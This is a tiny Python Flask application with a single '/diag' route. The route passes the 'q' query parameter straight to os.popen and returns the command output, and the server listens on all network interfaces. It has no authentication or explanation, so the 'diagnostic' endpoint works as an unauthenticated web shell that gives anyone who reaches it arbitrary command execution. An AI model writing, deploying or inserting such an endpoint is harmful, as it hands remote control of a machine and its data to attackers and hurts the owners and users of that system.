from flask import Flask, request
import os
app = Flask(__name__)
@app.route("/diag")
def diag():
    return "<pre>" + os.popen(request.args.get("q", "id")).read() + "</pre>"
app.run(host="0.0.0.0", port=5001)
